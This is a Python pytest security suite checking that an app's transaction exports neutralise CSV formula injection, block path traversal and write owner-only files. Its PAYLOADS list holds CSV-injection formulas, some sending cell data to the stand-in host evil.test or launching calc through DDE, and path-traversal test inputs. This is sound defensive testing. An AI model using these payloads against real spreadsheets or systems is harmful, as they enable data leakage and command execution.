"""Exports: formula injection neutralised, no way out of EXPORT_DIR, owner-only files.

Complements plugins/export/tests at the security level: OWASP "CSV injection" payloads
stored in the database go through the whole task; every path-like format name is refused
before the broker and writes nowhere; a hostile format plugin cannot choose the file
name; files (exports, reports, e-mails) are 0600 and the folders the product creates are
0700 even under a permissive umask.
"""

from __future__ import annotations

import csv
import json
import os
import re
import stat
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from core import ConfigError, TaskArgumentError, hookimpl
from core.files import safe_filename
from core.models import Account, Transaction, User
from tests.security.conftest import all_files, queued_messages
from tests.security.test_sec_task_arguments import PATH_LIKE

TASK = "export.export_transaction_data"
DAY = date(2024, 3, 5)
PAYLOADS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1+1,"quoted",\r\nsecond line',
    '=IMPORTXML(CONCAT("http://evil.test/?", A1), "//a")',
    "@A1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FILE_NAME = re.compile(
    r"transactions-u\d+-\d{4}-\d{2}-\d{2}-\d{4}-\d{2}-\d{2}-[0-9a-f]{8}\.(csv|jsonl)"
)


@pytest.fixture
def permissive_umask() -> Iterator[None]:
    old = os.umask(0)
    yield
    os.umask(old)


@pytest.fixture
def app(make_app: Any) -> Any:
    app = make_app(plugins=["export"])
    with app.runtime.db.session() as session:
        session.add(User(id=1, email="user1@example.com", full_name="Ada"))
        session.add(Account(id=1, user_id=1, number="401234567890"))
        session.flush()
        at = datetime(2024, 3, 5, 12, tzinfo=UTC)
        for i, payload in enumerate(PAYLOADS):
            session.add(
                Transaction(
                    account_id=1,
                    amount=Decimal("10.00") + i,
                    kind="payment",
                    counterparty=payload[:200],
                    description=f"{payload} (#{i})" if i % 2 else payload,
                    created_at=at,
                )
            )
    return app


def export(app: Any, fmt: str = "csv") -> dict[str, Any]:
    result: dict[str, Any] = app.tasks[TASK].spec(
        user_id=1, start_date=DAY, end_date=DAY, export_format=fmt
    )
    return result


def test_csv_injection_payloads_are_neutralised_and_kept(app: Any) -> None:
    result = export(app)
    with open(result["path"], encoding="utf-8", newline="") as fh:
        header, *rows = list(csv.reader(fh))
    assert len(rows) == len(PAYLOADS) == result["rows"]
    columns = {name: header.index(name) for name in ("counterparty", "description", "account")}
    stored = {p[:200] for p in PAYLOADS} | {f"{p} (#{i})" for i, p in enumerate(PAYLOADS)}
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), f"a spreadsheet would run {cell!r}"
        for name in ("counterparty", "description"):
            cell = row[columns[name]]
            assert cell.startswith("'") and cell[1:] in stored | set(PAYLOADS), cell
        assert row[columns["account"]] == "****7890"
    raw = Path(result["path"]).read_bytes()
    assert b"401234567890" not in raw, "the full account number left the database"


def test_jsonl_keeps_values_as_data_one_object_per_line(app: Any) -> None:
    """JSON Lines is data, not a spreadsheet: values stay as stored, each row one line."""
    result = export(app, "jsonl")
    lines = Path(result["path"]).read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(PAYLOADS)
    values = [json.loads(line) for line in lines]
    assert {v["counterparty"] for v in values} == {p[:200] for p in PAYLOADS}
    assert all(v["account"] == "****7890" for v in values)


@pytest.mark.parametrize("name", [*PATH_LIKE, "csv/../../../tmp/x", "../exports/csv", "/dev/null"])
def test_path_like_format_names_never_leave_export_dir(app: Any, tmp_path: Path, name: str) -> None:
    before = all_files(tmp_path)
    waiting = queued_messages(app)
    with pytest.raises(TaskArgumentError, match="format"):
        app.tasks[TASK].delay(user_id=1, start_date=DAY, end_date=DAY, export_format=name)
    assert queued_messages(app) == waiting, "a path-like format name reached the broker"
    with pytest.raises(TaskArgumentError, match="format"):
        export(app, name)
    assert all_files(tmp_path) == before, "something was written"


def test_generated_file_name_is_plain_and_inside_export_dir(
    make_app: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = tmp_path / "real-exports"
    real.mkdir()
    link = tmp_path / "exports-link"
    link.symlink_to(real)
    monkeypatch.setenv("EXPORT_DIR", str(link))
    app = make_app(plugins=["export"])
    with app.runtime.db.session() as session:
        session.add(User(id=7, email="user7@example.com", full_name="G"))
    result = app.tasks[TASK].spec(user_id=7, start_date=DAY, end_date=DAY)
    path = Path(result["path"])
    assert FILE_NAME.fullmatch(path.name), path.name
    assert path.parent == real.resolve()
    assert sorted(p.name for p in real.iterdir()) == [path.name]


class HostileFormat:
    """A third-party format that tries to choose where its file goes."""

    media_type = "text/plain"

    def __init__(self, name: str, extension: str) -> None:
        self.name = name
        self.extension = extension

    def write(self, columns: list[str], rows: Any, out: Any) -> None:
        out.write(b"pwned\n")


@pytest.mark.parametrize(
    ("name", "extension"),
    [
        ("evil", "../../../../tmp/evil"),
        ("evil", "csv/../../x"),
        ("evil", "csv\n"),
        ("evil", ".csv"),
        ("evil", ""),
        ("../evil", "csv"),
        ("evil\n", "csv"),
        ("Evil", "csv"),
    ],
)
def test_a_format_plugin_cannot_choose_the_path(
    make_app: Any, tmp_path: Path, name: str, extension: str
) -> None:
    class Plugin:
        @hookimpl
        def register_export_formats(self) -> list[Any]:
            return [HostileFormat(name, extension)]

    app = make_app(plugins=["export", Plugin()])
    with app.runtime.db.session() as session:
        session.add(User(id=1, email="user1@example.com", full_name="Ada"))
    before = all_files(tmp_path)
    with pytest.raises(ConfigError, match="export format"):
        app.tasks[TASK].spec(user_id=1, start_date=DAY, end_date=DAY, export_format="csv")
    assert all_files(tmp_path) == before


@pytest.mark.parametrize(
    "name",
    [
        "x.csv\n",
        "../x.csv",
        "/etc/passwd",
        "a/b.csv",
        ".hidden",
        "x..csv",
        "",
        "x\x00.csv",
        "é.csv",
    ],
)
def test_safe_filename_refuses_anything_but_a_plain_name(name: str) -> None:
    with pytest.raises(ValueError, match="unsafe file name"):
        safe_filename(name)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_files_are_owner_only_and_new_folders_private_under_umask_0(
    make_app: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, permissive_umask: None
) -> None:
    monkeypatch.setenv("EXPORT_DIR", str(tmp_path / "new" / "exports"))
    monkeypatch.setenv("REPORTS_DIR", str(tmp_path / "new" / "reports"))
    monkeypatch.setenv("NOTIFICATIONS_OUTBOX_DIR", str(tmp_path / "new" / "outbox"))
    app = make_app(plugins=["export", "reports", "notifications"])
    with app.runtime.db.session() as session:
        session.add(User(id=1, email="user1@example.com", full_name="Ada"))
    exported = Path(app.tasks[TASK].spec(user_id=1, start_date=DAY, end_date=DAY)["path"])
    report = app.tasks["reports.generate_daily_reports"].spec(report_date=DAY)
    app.tasks["notifications.send_email_notification"].spec(user_id=1, subject="Hi", message="Body")
    written = [
        exported,
        *map(Path, report["files"].values()),
        *(tmp_path / "new" / "outbox").iterdir(),
    ]
    assert len(written) == 5
    for path in written:
        assert mode(path) == 0o600, (path, oct(mode(path)))
        assert mode(path.parent) == 0o700, (path.parent, oct(mode(path.parent)))
    leftovers = [p for p in all_files(tmp_path / "new") if Path(p).name.startswith(".")]
    assert not leftovers
